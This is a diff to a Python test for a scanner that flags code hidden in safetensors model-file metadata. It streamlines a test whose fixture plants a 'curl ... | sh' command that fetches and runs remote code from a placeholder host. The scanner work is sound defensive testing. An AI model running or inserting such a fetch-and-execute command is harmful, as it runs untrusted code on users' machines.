@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from inspect_samples import found, look, safetensors
+from inspect_samples import found, safetensors, told
 
 from watchword.inspect.facts import Verdict
 
@@ -12,9 +12,7 @@ HEADER = b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"__metadata__":
 def test_a_command_in_metadata_is_suspicious() -> None:
     """A command where a name should stand is told."""
     header = HEADER % (b"setup", b"curl -s https://a.example/x | sh")
-    judged = look(safetensors(header, bytes(8)), "m.safetensors")
-    told = {(finding.rule, finding.verdict) for finding in judged.findings}
-    assert ("metadata-code", Verdict.SUSPICIOUS) in told
+    assert ("metadata-code", Verdict.SUSPICIOUS) in told(safetensors(header, bytes(8)), "m.safetensors")
 
 
 def test_metadata_that_describes_is_silent() -> None:
